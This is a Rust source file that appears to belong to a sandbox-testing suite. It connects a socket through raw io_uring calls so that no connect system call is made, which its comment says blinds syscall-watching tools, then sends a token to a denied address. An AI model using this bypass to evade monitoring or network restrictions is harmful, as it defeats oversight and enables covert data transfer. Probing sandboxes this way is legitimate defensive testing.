//! A connect by io_uring: no system call of that name is made, which blinds tools that watch system calls.

use std::io;
use std::net::SocketAddr;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, FromRawFd, OwnedFd};
use std::ptr::NonNull;
use std::sync::atomic::{AtomicU32, Ordering};

use rustix::net::{SendFlags, send};

use super::attempt::{Attempt, Held};
use super::by_call::{DENIED4, address4, stream};
use super::network::put;

/// Places in `struct io_uring_params` (include/uapi/linux/io_uring.h).
mod place {
    pub(super) const FEATURES: usize = 20;
    pub(super) const SQ_TAIL: usize = 44;
    pub(super) const SQ_ARRAY: usize = 64;
    pub(super) const CQ_CQES: usize = 100;
    pub(super) const SIZE: usize = 120;
}

const SINGLE_MAPPING: u32 = 1;
const ENTRIES: i64 = 0x1000_0000;
const CONNECT: u8 = 16;
const PAGE: usize = 4096;

pub(super) fn connect(held: &mut Held, token: &[u8]) -> io::Result<Attempt> {
    let socket = stream(SocketAddr::from(DENIED4))?;
    connect_by_ring(socket.as_fd(), &address4(libc::AF_INET, DENIED4))?;
    send(&socket, token, SendFlags::NOSIGNAL)?;
    held.socket = Some(socket);
    Ok(Attempt::Arrives)
}

/// A page that is shared with the kernel.
struct Shared(NonNull<u8>);

impl Shared {
    #[expect(unsafe_code, reason = "mmap(2) of a ring has no safe wrapper")]
    fn map(ring: BorrowedFd<'_>, at: i64) -> io::Result<Self> {
        let protection = libc::PROT_READ | libc::PROT_WRITE;
        // SAFETY: a new mapping at an address of the kernel's choice touches no memory of ours.
        let page =
            unsafe { libc::mmap(std::ptr::null_mut(), PAGE, protection, libc::MAP_SHARED, ring.as_raw_fd(), at) };
        if page == libc::MAP_FAILED {
            return Err(io::Error::last_os_error());
        }
        NonNull::new(page.cast()).map(Self).ok_or_else(|| io::Error::other("no mapping"))
    }

    /// A number in the page; places outside of it are an error of the kernel's answer.
    #[expect(unsafe_code, reason = "the kernel and this side share the number")]
    #[expect(clippy::cast_ptr_alignment, reason = "the page is aligned, and the place is a multiple of four")]
    fn number(&self, at: usize) -> io::Result<&AtomicU32> {
        if at > PAGE - 4 || !at.is_multiple_of(4) {
            return Err(io::Error::other("the ring does not fit a page"));
        }
        // SAFETY: the place is inside the mapping, aligned, and both sides access it atomically.
        Ok(unsafe { &*self.0.as_ptr().add(at).cast::<AtomicU32>() })
    }
}

impl Drop for Shared {
    #[expect(unsafe_code, reason = "see `map`")]
    fn drop(&mut self) {
        // SAFETY: the mapping has this length, and references to it do not outlive this value.
        let _always_succeeds = unsafe { libc::munmap(self.0.as_ptr().cast(), PAGE) };
    }
}

#[expect(unsafe_code, reason = "io_uring has no safe wrapper")]
fn call(number: i64, arguments: [usize; 4]) -> io::Result<i32> {
    let [a, b, c, d] = arguments;
    // SAFETY: the two callers pass what the calls expect: parameters of their size, and no pointers.
    let answer = unsafe { libc::syscall(number, a, b, c, d, 0_usize, 0_usize) };
    if answer < 0 { Err(io::Error::last_os_error()) } else { i32::try_from(answer).map_err(io::Error::other) }
}

fn connect_by_ring(socket: BorrowedFd<'_>, address: &[u8; 16]) -> io::Result<()> {
    let mut parameters = [0_u8; place::SIZE];
    let made = call(libc::SYS_io_uring_setup, [1, parameters.as_mut_ptr() as usize, 0, 0])?;
    #[expect(unsafe_code, reason = "a descriptor that a system call made has no owner yet")]
    // SAFETY: the kernel has just made this descriptor for us.
    let ring = unsafe { OwnedFd::from_raw_fd(made) };
    let stated = |at: usize| {
        let bytes = parameters.get(at..at + 4).and_then(|bytes| bytes.try_into().ok());
        bytes.map_or(0, u32::from_ne_bytes)
    };
    if stated(place::FEATURES) & SINGLE_MAPPING == 0 {
        return Err(io::Error::other("a kernel before 5.4 maps its rings apart"));
    }
    let (rings, entries) = (Shared::map(ring.as_fd(), 0)?, Shared::map(ring.as_fd(), ENTRIES)?);

    let mut entry = [0_u8; 64];
    put(&mut entry, 0, &[CONNECT]);
    put(&mut entry, 4, &socket.as_raw_fd().to_ne_bytes());
    put(&mut entry, 8, &(address.len() as u64).to_ne_bytes());
    put(&mut entry, 16, &(address.as_ptr() as u64).to_ne_bytes());
    for (at, word) in entry.chunks_exact(4).enumerate() {
        let word = u32::from_ne_bytes(word.try_into().unwrap_or_default());
        entries.number(at * 4)?.store(word, Ordering::Relaxed);
    }
    rings.number(stated(place::SQ_ARRAY) as usize)?.store(0, Ordering::Relaxed);
    rings.number(stated(place::SQ_TAIL) as usize)?.store(1, Ordering::Release);

    let descriptor = usize::try_from(ring.as_raw_fd()).map_err(io::Error::other)?;
    // One submitted, one awaited.
    call(libc::SYS_io_uring_enter, [descriptor, 1, 1, 1])?;
    let result = rings.number(stated(place::CQ_CQES) as usize + 8)?.load(Ordering::Acquire).cast_signed();
    if result < 0 { Err(io::Error::from_raw_os_error(-result)) } else { Ok(()) }
}
